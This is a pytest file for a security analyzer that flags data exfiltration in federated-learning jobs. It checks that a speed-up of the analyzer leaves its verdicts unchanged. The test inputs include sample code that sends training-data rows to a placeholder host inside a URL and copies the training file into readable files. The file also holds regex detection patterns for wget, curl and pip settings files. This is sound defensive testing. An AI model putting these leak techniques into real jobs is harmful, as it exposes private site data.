"""Session 59 (speed59): the analysis' CPU on a large tree. The flow's calls.py imported detectors/paths.py with a
relative import inside the methods every call evaluation runs (fetched_url, moved_into_readable: about 2% of
NVFlare's advanced tree); it is imported once now (calls._paths), and a call that names no copy skips building
the intersection with the copies table. The job's search for wget's and pip's settings (shell.DOWNLOAD_SETTINGS,
PIP_SETTINGS) starts every alternative with a literal or a class, so `re` skips to the bytes a match may start at
(a quarter of the time on the tree's 14.8 MB). The verdicts and the patterns' answers are as before."""

from __future__ import annotations

import builtins
import random
import re
from re import _compiler, _constants, _parser

import pytest

import redteam_kit as kit
from analyzer.engine import shell
from analyzer.engine.detectors import files
from analyzer.model import Decision
from conftest import CORPUS, run_cli

HEAD = "import shutil\nimport pandas as pd\n\ndf = pd.read_csv('/data/site/train.csv')\nrows = df.values.tolist()\n"


def _paths_imported_by_calls(monkeypatch, tmp_path, source: str):
    """The scan's report, and how often flow/calls.py ran `from ..detectors[.paths] import ...` during it."""
    seen = []
    real = builtins.__import__

    def counting(name, globals=None, locals=None, fromlist=(), level=0):
        if level and (globals or {}).get("__name__") == "analyzer.engine.flow.calls" and "detectors" in name:
            seen.append(name)
        return real(name, globals, locals, fromlist, level)

    monkeypatch.setattr(builtins, "__import__", counting)
    return kit.scan_source(tmp_path, source), len(seen)


@pytest.mark.parametrize("calls", [5, 60])
def test_calls_import_the_path_detectors_at_most_once(calls, tmp_path, in_process, monkeypatch):
    """Every evaluated call asked fetched_url and moved_into_readable (main: one import per call at least)."""
    body = "".join(f"ref{i} = pd.read_csv('https://cdn.example.org/ref/' + str(rows[{i}]) + '.csv')\n"
                   f"shutil.copy('/data/site/train.csv', 'notes{i}.txt')\n" for i in range(calls))
    report, imports = _paths_imported_by_calls(monkeypatch, tmp_path, HEAD + body)
    assert imports <= 1, imports
    # what those methods find is found still: the URL sends the rows, the copy fills a file the admin reads
    kit.assert_held(report, "network.data-to-network", Decision.REJECT)
    kit.assert_held(report, "file-exfiltration.data-to-shell-readable")


def test_a_call_that_copies_nothing_writes_no_shell_readable_file(tmp_path):
    report = kit.scan_source(tmp_path, HEAD + "shutil.rmtree('cache', ignore_errors=True)\nprint(len(rows))\n")
    assert not kit.holds(report, "file-exfiltration."), kit.findings(report)


def test_a_copy_into_the_shared_tmp_folder_through_the_cli():
    out = run_cli("scan", str(CORPUS / "malicious/redteam57a_tmp_shutil_copy.py"))
    assert out.returncode != 0 and "file-exfiltration.data-to-shared-folder" in out.stdout, out.stdout + out.stderr


@pytest.mark.parametrize("pattern", [shell.DOWNLOAD_SETTINGS, shell.PIP_SETTINGS], ids=["download", "pip"])
def test_settings_patterns_let_re_skip_ahead(pattern):
    """The compiled pattern's INFO block holds a prefix or a set of first bytes (main: neither, for `\\bHOME` and
    for re.IGNORECASE), which `re`'s search uses to skip the bytes no match starts at."""
    code = _compiler._code(_parser.parse(pattern.pattern, pattern.flags), pattern.flags)
    assert code[0] == _constants.INFO and code[2] & (_constants.SRE_INFO_PREFIX | _constants.SRE_INFO_CHARSET)


# the patterns as sessions 49 to 58 spelled them: the answers must stay theirs
_DOWNLOAD_BEFORE = re.compile(rb"WGETRC|CURL_HOME|XDG_CONFIG_HOME|\.(?:wget|curl)rc\b|\bHOME\b['\"]?\]?\s*=")
_PIP_BEFORE = re.compile(rb"PIP_|pip\.(?:conf|ini)\b", re.IGNORECASE)
_PIECES = [b"HOME", b"H", b"OME", b"home", b"x", b"_", b"=", b" ", b"'", b"]", b'"', b"\t", b"\n", b"pip", b"PIP", b"Pip",
           b"pIp", b".", b"conf", b"CONF", b"ini", b"Ini", b"WGETRC", b"CURL_", b"wget", b"rc", b".curlrc", b"XDG_CONFIG_",
           b"1", b"-", b"$", b"{", b"\xc3\xa9"]


def test_settings_patterns_answer_as_before():
    rng = random.Random(59)
    texts = [b"".join(rng.choice(_PIECES) for _ in range(rng.randint(1, 7))) for _ in range(40_000)]
    texts += [b"HOME=", b"xHOME=", b"$HOME =", b"os.environ['HOME'] = d", b"MY_HOME=", b"HOMEDIR=", b"~/.wgetrc",
              b".curlrcx", b"pip.conf", b"PIP.INI", b"pip.config", b"Pip_Index_Url", b"pipx"]
    for text in texts:
        assert bool(shell.DOWNLOAD_SETTINGS.search(text)) == bool(_DOWNLOAD_BEFORE.search(text)), text
        assert bool(shell.PIP_SETTINGS.search(text)) == bool(_PIP_BEFORE.search(text)), text
    assert files.DOWNLOAD_SETTINGS is shell.DOWNLOAD_SETTINGS and files.PIP_SETTINGS is shell.PIP_SETTINGS


def test_home_set_in_the_job_still_makes_a_download_unplain(tmp_path):
    script = "#!/bin/bash\nwget -q https://x.example/d.csv -O d.csv\n"
    plain = kit.scan_files(tmp_path / "plain", {"prep.sh": script})
    kit.assert_held(plain, "files.shell-download")
    named = kit.scan_files(tmp_path / "named", {"prep.sh": script, "env.py": "import os\nos.environ['HOME'] = '/x'\n"})
    assert not kit.holds(named, "files.shell-download"), kit.findings(named)
    kit.assert_held(named, "files.")
